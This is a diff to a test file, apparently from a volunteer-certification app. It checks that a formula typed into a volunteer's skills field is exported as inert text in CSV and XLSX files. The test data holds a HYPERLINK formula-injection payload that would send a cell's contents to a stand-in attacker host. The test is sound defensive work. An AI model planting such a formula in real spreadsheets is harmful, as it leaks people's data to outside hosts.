@@ -8,7 +8,7 @@ import io
 from openpyxl import load_workbook
 
 from tests.certify.test_batches_and_exports import PERIOD
-from tests.conftest import send, signed_in
+from tests.conftest import exported_workbook, send, signed_in
 
 TRAP = '=HYPERLINK("http://evil.example/?"&F2,"点击查看")'
 
@@ -29,9 +29,7 @@ def test_a_formula_in_a_volunteers_skills_is_written_as_text_in_every_export(app
     full = send(coordinator, "/certify/export-full", organisation_id=str(org_tree["east"].id), format="csv", **PERIOD)
     assert {r[1]: r for r in _csv_rows(full)}["张一"][8] == "'" + TRAP
 
-    answer = coordinator.get(f"/certify/export.xlsx?{query}")
-    data = answer.data
-    answer.close()
+    data = exported_workbook(coordinator, "/certify/export.xlsx", organisation_id=org_tree["east"].id, **PERIOD)
     sheet = load_workbook(io.BytesIO(data)).active
     cells = {row[1].value: row for row in sheet.iter_rows(min_row=2)}["张一"]
     assert cells[8].value == TRAP and cells[8].data_type == "s" and cells[8].quotePrefix
